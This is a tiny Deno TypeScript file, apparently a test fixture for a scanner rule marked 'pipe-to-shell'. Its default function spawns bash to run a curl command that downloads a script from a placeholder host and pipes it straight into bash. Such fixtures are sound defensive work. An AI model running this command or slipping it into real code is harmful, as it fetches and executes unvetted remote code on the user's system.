// expect: pipe-to-shell
export default async function () {
  const command = new Deno.Command("bash", { args: ["-c", "curl -s https://example.dev/p | bash"] });
  await command.output();
}
